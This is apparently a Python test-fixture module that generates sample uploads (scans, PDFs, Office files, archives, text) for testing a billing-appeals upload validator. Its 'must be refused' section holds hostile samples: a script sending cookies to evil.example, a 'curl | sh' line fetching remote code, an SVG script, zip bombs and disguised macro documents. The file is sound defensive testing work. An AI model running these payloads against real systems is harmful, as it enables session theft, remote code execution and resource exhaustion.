"""Sample uploads made at test time, so no binary file is committed and every sample says how it was made.

Each function returns the file's bytes. The scanned samples are rendered in DejaVu Sans at about 28 pt on a
200-dpi canvas, which is what a billing office's scanner produces and what Tesseract reads reliably.
"""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Sequence
from functools import cache
from pathlib import Path

from PIL import Image, ImageDraw, ImageFont

FONT = Path("/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf")
DPI = 200
LETTER_PX = (int(8.5 * DPI), 11 * DPI)  # 1700 × 2200
FONT_PX = round(28 * DPI / 72)  # 28 pt at 200 dpi

EOB_LINES = (
    "EXPLANATION OF BENEFITS",
    "Claim 4471823 DENIAL",
    "Reason CO-45 exceeds fee schedule",
    "Diagnosis E11.9 amount due 125.00",
)

WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
WORD_MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"


# ---------------------------------------------------------------------------- scans and images


def text_image(lines: Sequence[str] = EOB_LINES, *, size: tuple[int, int] | None = None) -> Image.Image:
    """A white greyscale page with ``lines`` in black; a Letter page at 200 dpi unless ``size`` is given."""
    font = ImageFont.truetype(str(FONT), FONT_PX)
    width, height = size or LETTER_PX
    image = Image.new("L", (width, height), 255)
    draw = ImageDraw.Draw(image)
    margin = DPI // 2
    for n, line in enumerate(lines):
        draw.text((margin, margin + n * round(FONT_PX * 1.6)), line, font=font, fill=0)
    return image


def _small_scan(lines: Sequence[str]) -> Image.Image:
    # A strip just big enough for the lines: the OCR tests stay quick.
    return text_image(lines, size=(1700, 2 * (DPI // 2) + len(lines) * round(FONT_PX * 1.6)))


def image_bytes(fmt: str, lines: Sequence[str] = EOB_LINES) -> bytes:
    """``lines`` as an image in Pillow's ``fmt`` (PNG, JPEG, TIFF, GIF, WEBP)."""
    buffer = io.BytesIO()
    image = _small_scan(lines)
    if fmt == "JPEG":
        image.save(buffer, fmt, quality=90, dpi=(DPI, DPI))
    elif fmt == "WEBP":
        image.save(buffer, fmt, lossless=True)
    elif fmt == "GIF":
        image.save(buffer, fmt)
    else:
        image.save(buffer, fmt, dpi=(DPI, DPI))
    return buffer.getvalue()


def multipage_tiff(pages: Sequence[Sequence[str]]) -> bytes:
    """A multi-page TIFF (as fax servers send), one frame per item of ``pages``."""
    frames = [_small_scan(lines) for lines in pages]
    buffer = io.BytesIO()
    frames[0].save(buffer, "TIFF", save_all=True, append_images=frames[1:], dpi=(DPI, DPI))
    return buffer.getvalue()


def scanned_pdf(pages: Sequence[Sequence[str]] = (EOB_LINES,)) -> bytes:
    """A PDF of Letter-size page images with no text layer, as a scanner makes it."""
    frames = [text_image(lines).convert("RGB") for lines in pages]
    buffer = io.BytesIO()
    frames[0].save(buffer, "PDF", resolution=DPI, save_all=True, append_images=frames[1:])
    return buffer.getvalue()


# ---------------------------------------------------------------------------- PDFs with text


@cache
def text_pdf(paragraphs: tuple[str, ...] = EOB_LINES) -> bytes:
    """A real PDF with a text layer, from HTML by WeasyPrint (imported here: it takes ~1 s to import)."""
    from html import escape

    import weasyprint

    body = "".join(f"<p>{escape(p)}</p>" for p in paragraphs)
    html = f"<html><body style='font-family: DejaVu Sans'>{body}</body></html>"
    return weasyprint.HTML(string=html).write_pdf()


def mixed_pdf() -> bytes:
    """Page 1 has a text layer; page 2 is a scan: the extractor must OCR only page 2."""
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter()
    for data in (text_pdf(("Appeal letter for claim 4471823",)), scanned_pdf((("Medical records attached",),))):
        for page in PdfReader(io.BytesIO(data)).pages:
            writer.add_page(page)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def encrypted_pdf(password: str = "s3cret") -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(text_pdf())))
    writer.encrypt(user_password=password, owner_password=password + "-owner")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def broken_pdf() -> bytes:
    """Starts like a PDF (libmagic says application/pdf) but has no objects, no xref, no trailer."""
    return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\nthis file was cut off during the download\n"


def broken_png() -> bytes:
    """A PNG cut in half: the header is right, the image data is not all there."""
    data = image_bytes("PNG")
    return data[: len(data) // 2]


# ---------------------------------------------------------------------------- Office files


def _docx_parts(paragraphs: Sequence[str], main_type: str) -> dict[str, bytes]:
    from xml.sax.saxutils import escape

    content_types = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{main_type}"/>'
        "</Types>"
    )
    rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Target="word/document.xml" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"/>'
        "</Relationships>"
    )
    body = "".join(
        f'<w:p><w:r><w:t xml:space="preserve">{escape(p)}</w:t></w:r></w:p>' if p else "<w:p/>" for p in paragraphs
    )
    document = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        f"<w:body>{body}</w:body></w:document>"
    )
    return {
        "[Content_Types].xml": content_types.encode(),
        "_rels/.rels": rels.encode(),
        "word/document.xml": document.encode(),
    }


def zip_parts(parts: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


DOCX_PARAGRAPHS = ("Appeal of denied claim 4471823", "Denial reason CO-45; diagnosis E11.9.")


def docx(paragraphs: Sequence[str] = DOCX_PARAGRAPHS, *, content_types_last: bool = False) -> bytes:
    """A minimal Word document; with ``content_types_last`` libmagic calls it application/octet-stream."""
    parts = _docx_parts(paragraphs, WORD_MAIN)
    if content_types_last:
        parts = {name: data for name, data in parts.items() if name != "[Content_Types].xml"} | {
            "[Content_Types].xml": parts["[Content_Types].xml"]
        }
    return zip_parts(parts)


def docx_with_body(body_xml: str) -> bytes:
    """A Word document whose ``<w:body>`` is ``body_xml`` as given (runs, tabs, breaks)."""
    parts = _docx_parts([], WORD_MAIN)
    parts["word/document.xml"] = parts["word/document.xml"].replace(
        b"<w:body></w:body>", f"<w:body>{body_xml}</w:body>".encode()
    )
    return zip_parts(parts)


def docm() -> bytes:
    """A macro-enabled Word document: declared as such and carrying a (fake) VBA project."""
    parts = _docx_parts(DOCX_PARAGRAPHS, WORD_MACRO_MAIN)
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512)
    return zip_parts(parts)


def docx_with_hidden_macros() -> bytes:
    """Declared as an ordinary .docx but carrying a VBA project: refused all the same."""
    parts = _docx_parts(DOCX_PARAGRAPHS, WORD_MAIN)
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512)
    return zip_parts(parts)


XLSX_ROWS = (("Claim", "Code", "Balance"), ("4471823", "CO-45", 125.0), ("5520019", "PR-1", 40.5))


def xlsx(rows: Sequence[Sequence[object]] = XLSX_ROWS, *, macro: bool = False) -> bytes:
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "Denials"
    for row in rows:
        sheet.append(list(row))
    buffer = io.BytesIO()
    workbook.save(buffer)
    data = buffer.getvalue()
    if not macro:
        return data
    # Re-declare the workbook as macro-enabled, as Excel does for an .xlsm.
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )
    return zip_parts(parts)


def pptx_like() -> bytes:
    """An Office package of a type we do not accept (a PowerPoint presentation)."""
    parts = _docx_parts(DOCX_PARAGRAPHS, WORD_MAIN)
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        WORD_MAIN.encode(), b"application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
    )
    return zip_parts(parts)


# ---------------------------------------------------------------------------- archives


def plain_zip() -> bytes:
    return zip_parts({"eob.txt": b"Claim 4471823 denied CO-45\n", "notes.txt": b"call payer again\n"})


def zip_bomb(unpacked_mib: int = 20) -> bytes:
    """A small ZIP that unpacks to ``unpacked_mib`` MiB of zeros (a ratio of about 1000:1)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("zeros.bin", bytes(unpacked_mib * 1024 * 1024))
    return buffer.getvalue()


def docx_bomb(unpacked_mib: int = 20) -> bytes:
    """A real-looking Word document with a huge, highly compressible member."""
    parts = _docx_parts(DOCX_PARAGRAPHS, WORD_MAIN)
    parts["word/media/padding.xml"] = b" " * (unpacked_mib * 1024 * 1024)
    return zip_parts(parts)


# ---------------------------------------------------------------------------- what must be refused


def html_page() -> bytes:
    return (
        b"<!DOCTYPE html>\n<html><head><title>Denial letter</title></head>"
        b"<body><script>document.location='https://evil.example/'+document.cookie</script></body></html>\n"
    )


def svg_with_script() -> bytes:
    return (
        b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
        b"<script>alert(document.cookie)</script><rect width='10' height='10'/></svg>\n"
    )


def shell_script() -> bytes:
    return b"#!/bin/sh\ncurl https://evil.example/x | sh\n"


def elf_program() -> bytes:
    """A real Linux program (this machine's /bin/true)."""
    return Path("/bin/true").read_bytes()


def windows_program() -> bytes:
    """The smallest header libmagic recognises as a Windows PE program: DOS stub, PE signature, COFF and
    optional headers; nothing in it can run."""
    dos = bytearray(64)
    dos[0:2] = b"MZ"
    struct.pack_into("<I", dos, 0x3C, 64)  # e_lfanew: where the PE header starts
    coff = b"PE\0\0" + struct.pack("<HHIIIHH", 0x14C, 1, 0, 0, 0, 224, 0x0102)
    optional = struct.pack("<H", 0x10B) + bytes(222)
    return bytes(dos) + coff + optional + bytes(512)


# ---------------------------------------------------------------------------- text


def csv_bytes() -> bytes:
    return b'Claim #,Patient,Denial Code,Balance\n4471823,"DOE, JANE",CO-45,$125.00\n'


def latin1_text() -> bytes:
    return "Résumé of calls: payer said claim 4471823 was denied (CO-45).\n".encode("latin-1")


def utf8_text() -> bytes:
    return "Notes — Müller, José: call back re E11.9 claim.\n".encode()
